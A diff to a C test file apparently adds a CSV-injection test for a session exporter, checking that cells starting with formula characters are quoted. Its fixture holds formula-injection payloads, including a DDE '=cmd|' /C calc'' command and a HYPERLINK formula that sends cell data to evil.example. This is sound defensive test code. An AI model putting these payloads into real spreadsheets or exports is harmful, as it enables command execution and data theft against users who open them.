@@ -93,6 +93,20 @@ read_csv (const char *path)
   return parse_csv (data, length);
 }
 
+/* What a cell holding @value reads: a single quote in front of what a
+ * spreadsheet would take for a formula. */
+static char *
+as_cell (const char *value)
+{
+  if (value == NULL)
+    return g_strdup ("");
+
+  if (value[0] != '\0' && strchr ("=+-@\t\r", value[0]) != NULL)
+    return g_strconcat ("'", value, NULL);
+
+  return g_strdup (value);
+}
+
 static void
 assert_record (char              **record,
                const char * const *expected,
@@ -100,7 +114,11 @@ assert_record (char              **record,
 {
   g_assert_cmpuint (g_strv_length (record), ==, n_expected);
   for (guint i = 0; i < n_expected; i++)
-    g_assert_cmpstr (record[i], ==, expected[i] != NULL ? expected[i] : "");
+    {
+      g_autofree char *cell = as_cell (expected[i]);
+
+      g_assert_cmpstr (record[i], ==, cell);
+    }
 }
 
 static StapleSession *
@@ -156,14 +174,42 @@ static const char awkward_json[] =
   "    { \"text\": \"Nobody's\", \"status\": \"done\" } ] }";
 
 static StapleSession *
-read_awkward (void)
+read_json (const char *json)
 {
   g_autoptr(GError) error = NULL;
-  StapleSession *session = staple_session_new_from_json (awkward_json, -1, &error);
+  StapleSession *session = staple_session_new_from_json (json, -1, &error);
 
   g_assert_no_error (error);
   return session;
 }
+
+static StapleSession *
+read_awkward (void)
+{
+  return read_json (awkward_json);
+}
+
+/* CSV injection: every typed column of both files starts with one of the
+ * characters a spreadsheet takes for the start of a formula, or a tab or a
+ * carriage return that it may trim to one. Beside them, cells with the same
+ * characters further in, which must come back as they are. */
+static const char formula_json[] =
+  "{ \"title\": \"=1+1\", \"date\": \"2026-03-04\","
+  "  \"participants\": ["
+  "    { \"key\": \"p1\", \"name\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Open\\\")\" },"
+  "    { \"key\": \"p2\", \"name\": \"Ann-Marie O'Neil\" } ],"
+  "  \"stages\": ["
+  "    { \"name\": \"+SUM(A1:A9)\", \"team\": \"-2+3\","
+  "      \"frictions\": ["
+  "        { \"key\": \"f1\", \"text\": \"=cmd|' /C calc'!A0\", \"kind\": \"policy\","
+  "          \"notes\": \"@SUM(1+9)*cmd|' /C calc'!A0\" },"
+  "        { \"key\": \"f2\", \"text\": \"\\tTab first\", \"notes\": \"\\r=CR first\" },"
+  "        { \"key\": \"f3\", \"text\": \"a = b, c - d\", \"notes\": \"e-mail @ noon\" } ] },"
+  "    { \"name\": \"Ordinary\", \"team\": \"\u2212 5 is a minus sign, not a hyphen\","
+  "      \"frictions\": [ { \"key\": \"f4\", \"text\": \"'quoted already\" } ] } ],"
+  "  \"actions\": ["
+  "    { \"text\": \"-1\", \"owner\": \"p1\", \"frictions\": [ \"f1\", \"f3\" ] },"
+  "    { \"text\": \"@import\", \"owner\": \"p2\", \"frictions\": [ \"f3\", \"f1\" ] } ] }";
 
 /* The CSV columns, worked out here from the model, independently. */
 static void
@@ -332,6 +378,65 @@ test_csv_awkward (void)
   row = actions->pdata[2];
   g_assert_cmpstr (row[1], ==, "");
   g_assert_cmpstr (row[4], ==, "");
+
+  g_unlink (path);
+  g_unlink (actions_path);
+  g_rmdir (dir);
+}
+
+static void
+test_csv_formulas (void)
+{
+  g_autoptr(StapleSession) session = read_json (formula_json);
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("staple-csv-XXXXXX", &error);
+  g_autofree char *path = g_build_filename (dir, "formulas.csv", NULL);
+  g_autofree char *actions_path = staple_export_actions_csv_path (path);
+  g_autoptr(GPtrArray) frictions = NULL;
+  g_autoptr(GPtrArray) actions = NULL;
+  char **row;
+
+  export_and_check_csv (session);
+
+  g_assert_no_error (error);
+  g_assert_true (staple_export_frictions_csv (session, path, &error));
+  g_assert_true (staple_export_actions_csv (session, actions_path, &error));
+  frictions = read_csv (path);
+  actions = read_csv (actions_path);
+
+  row = frictions->pdata[1];
+  g_assert_cmpstr (row[1], ==, "'+SUM(A1:A9)");
+  g_assert_cmpstr (row[2], ==, "'-2+3");
+  g_assert_cmpstr (row[3], ==, "'=cmd|' /C calc'!A0");
+  g_assert_cmpstr (row[8], ==, "'@SUM(1+9)*cmd|' /C calc'!A0");
+  row = frictions->pdata[2];
+  g_assert_cmpstr (row[3], ==, "'\tTab first");
+  g_assert_cmpstr (row[8], ==, "'\r=CR first");
+  row = frictions->pdata[3];
+  g_assert_cmpstr (row[3], ==, "a = b, c - d");
+  g_assert_cmpstr (row[8], ==, "e-mail @ noon");
+  row = frictions->pdata[4];
+  g_assert_cmpstr (row[2], ==, "\u2212 5 is a minus sign, not a hyphen");
+  g_assert_cmpstr (row[3], ==, "'quoted already");
+
+  row = actions->pdata[1];
+  g_assert_cmpstr (row[0], ==, "'-1");
+  g_assert_cmpstr (row[1], ==, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")");
+  g_assert_cmpstr (row[4], ==, "'=cmd|' /C calc'!A0; a = b, c - d");
+  row = actions->pdata[2];
+  g_assert_cmpstr (row[0], ==, "'@import");
+  g_assert_cmpstr (row[1], ==, "Ann-Marie O'Neil");
+  g_assert_cmpstr (row[4], ==, "a = b, c - d; =cmd|' /C calc'!A0");
+
+  /* No cell of either file starts like a formula. */
+  for (guint file = 0; file < 2; file++)
+    {
+      GPtrArray *records = file == 0 ? frictions : actions;
+
+      for (guint i = 0; i < records->len; i++)
+        for (char **cell = records->pdata[i]; *cell != NULL; cell++)
+          g_assert_null (strchr ("=+-@\t\r", (*cell)[0] != '\0' ? (*cell)[0] : 'x'));
+    }
 
   g_unlink (path);
   g_unlink (actions_path);
@@ -666,6 +771,7 @@ main (int   argc,
   g_test_add_func ("/export/csv/example", test_csv_example);
   g_test_add_func ("/export/comparison/pdf", test_comparison_pdf);
   g_test_add_func ("/export/csv/awkward", test_csv_awkward);
+  g_test_add_func ("/export/csv/formulas", test_csv_formulas);
   g_test_add_func ("/export/csv/actions-path", test_csv_actions_path);
   g_test_add_func ("/export/csv/replaces", test_replaces);
   g_test_add_func ("/export/svg/example", test_svg_example);
